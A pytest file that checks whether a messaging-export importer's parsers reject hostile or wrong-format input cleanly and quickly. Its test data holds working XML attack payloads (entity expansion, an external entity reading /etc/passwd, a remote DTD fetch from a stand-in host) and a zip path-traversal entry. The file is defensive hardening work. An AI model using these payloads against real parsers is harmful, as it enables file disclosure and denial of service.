"""Every parser against hostile and wrong input: only ImportFormatError, never a hang.

Each case runs every parser to the end (items and attachments) and checks that the
only exception is ours, with a one-line message, in bounded time.
"""

from __future__ import annotations

import random
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from victim_log.importers import ImportFormatError
from victim_log.importers import ItemStream
from victim_log.importers import parse_email_file
from victim_log.importers import parse_eml
from victim_log.importers import parse_mbox
from victim_log.importers import parse_sms_backup
from victim_log.importers import parse_whatsapp
from victim_log.importers import read_image_metadata
from victim_log.importers.jsonchats import parse_meta
from victim_log.importers.jsonchats import parse_telegram
from victim_log.importers.signal import parse_signal

from .util import fixture_bytes
from .util import ios_zip
from .util import make_zip

PARSERS: dict[str, Callable[[object], ItemStream]] = {
    "whatsapp": parse_whatsapp,
    "sms": parse_sms_backup,
    "eml": parse_eml,
    "mbox": parse_mbox,
    "email": parse_email_file,
    "signal": parse_signal,
    "telegram": parse_telegram,
    "messenger": parse_meta,
}

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE smses [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
]>
<smses count="1"><sms address="07700900123" date="1710273660000" type="1" body="&f;" /></smses>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE smses [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<smses count="1"><sms address="07700900123" date="1710273660000" type="1" body="&x;" /></smses>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE smses [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>
<smses count="0"/>
"""
UNDECLARED_ENTITY = b"""<?xml version="1.0"?>
<smses count="1"><sms address="1" date="1710273660000" type="1" body="&undeclared;" /></smses>
"""


def consume(parser: Callable[[object], ItemStream], data: object) -> int:
    """Run a parser to the end, reading every attachment; returns the item count."""
    count = 0
    with parser(data) as stream:
        for item in stream:
            count += 1
            for att in item.attachments:
                if att.available:
                    att.read(max_bytes=64 * 1024 * 1024)
    return count


def only_our_error(parser: Callable[[object], ItemStream], data: object, budget: float = 20) -> None:
    start = time.perf_counter()
    message = None
    try:
        consume(parser, data)
    except ImportFormatError as exc:
        message = str(exc)
    if message is not None:
        assert message
        assert "\n" not in message
    assert time.perf_counter() - start < budget


def _random_bytes(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


HOSTILE: dict[str, bytes] = {
    "empty": b"",
    "whitespace": b" \n\r\n\t",
    "random": _random_bytes(64 * 1024, 1),
    "random_lt": b"<" + _random_bytes(4096, 2),
    "billion_laughs": BILLION_LAUGHS,
    "xxe": XXE,
    "parameter_entity": PARAMETER_ENTITY,
    "undeclared_entity": UNDECLARED_ENTITY,
    "truncated_xml": fixture_bytes("sms_backup.xml")[:1500],
    "truncated_in_data": fixture_bytes("sms_backup.xml").split(b'data="')[0] + b'data="AAAA',
    "nul_bytes": b"\x00" * 1000,
    "utf16_chat": fixture_bytes("whatsapp_android_dmy.txt").decode("utf-8").encode("utf-16"),
    "bom_only": b"\xef\xbb\xbf",
    "zip_of_junk": make_zip({"_chat.txt": _random_bytes(2000, 3)}),
    "zip_traversal": make_zip({"../_chat.txt": b"x"}),
}
FIXTURE_NAMES = [
    "whatsapp_android_dmy.txt",
    "whatsapp_android_us.txt",
    "whatsapp_ios_chat.txt",
    "whatsapp_ambiguous.txt",
    "sms_backup.xml",
    "calls_backup.xml",
    "email_plain.eml",
    "email_html.eml",
    "email_attachment.eml",
    "mailbox.mbox",
    "signal_chat.md",
    "signal_dan_marsh/chat.md",
    "telegram_result.json",
    "messenger_message_1.json",
    "telegram_chat/result.json",
    "meta_chat/message_1.json",
    "sms_people.xml",
    "calls_all_types.xml",
    "whatsapp_ios_legacy.txt",
    "whatsapp_android_ar.txt",
]


@pytest.mark.parametrize("parser_name", sorted(PARSERS))
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_input(parser_name: str, case: str) -> None:
    only_our_error(PARSERS[parser_name], HOSTILE[case])


@pytest.mark.parametrize("parser_name", sorted(PARSERS))
@pytest.mark.parametrize("name", FIXTURE_NAMES)
def test_every_fixture_through_every_parser(parser_name: str, name: str) -> None:
    """The wrong format is refused with our error (or, if it is the right one, read)."""
    only_our_error(PARSERS[parser_name], fixture_bytes(name))


@pytest.mark.parametrize("parser_name", sorted(PARSERS))
def test_wrong_format_is_refused_early(parser_name: str) -> None:
    """Picking the wrong importer fails when the stream is created, not halfway."""
    right = {
        "whatsapp": "whatsapp_android_dmy.txt",
        "sms": "sms_backup.xml",
        "eml": "email_plain.eml",
        "mbox": "mailbox.mbox",
        "email": "email_plain.eml",
        "signal": "signal_chat.md",
        "telegram": "telegram_result.json",
        "messenger": "messenger_message_1.json",
    }
    for name in ("whatsapp_android_dmy.txt", "sms_backup.xml", "email_plain.eml", "mailbox.mbox"):
        if name == right[parser_name] or (parser_name in ("eml", "email") and name.endswith("mbox")):
            continue
        with pytest.raises(ImportFormatError) as info:
            PARSERS[parser_name](fixture_bytes(name))
        said = str(info.value)
        assert "doesn't look like" in said or ("looks like" in said and "Nothing was imported" in said)


def test_entity_tricks_are_refused_by_the_sms_parser() -> None:
    for data in (BILLION_LAUGHS, XXE, PARAMETER_ENTITY):
        with pytest.raises(ImportFormatError, match="XML features"):
            consume(parse_sms_backup, data)
    with pytest.raises(ImportFormatError, match="damaged"):
        consume(parse_sms_backup, UNDECLARED_ENTITY)


def test_twenty_megabyte_single_line(tmp_path: Path) -> None:
    big = b"A" * (20 * 1024 * 1024)
    samples = {
        "plain": big,
        "chat": b"13/03/2024, 20:01 - Dan Marsh: " + big + b"\n",
        "xml": b"<?xml version='1.0'?><smses><sms date='1' body='" + big + b"'/></smses>",
        "eml": b"From: a@example.com\nSubject: " + big + b"\n\n" + big,
        "mbox": b"From a@example.com Tue Mar 12 20:01:00 2024\nFrom: a@example.com\n\n" + big,
    }
    for name, data in samples.items():
        path = tmp_path / name
        path.write_bytes(data)
        for parser in PARSERS.values():
            only_our_error(parser, path, budget=20)


def test_photo_metadata_never_raises_on_junk() -> None:
    for case in HOSTILE.values():
        read_image_metadata(case)


def test_whatsapp_zip_with_chat_and_extras_is_fine() -> None:
    assert consume(parse_whatsapp, ios_zip()) == 9
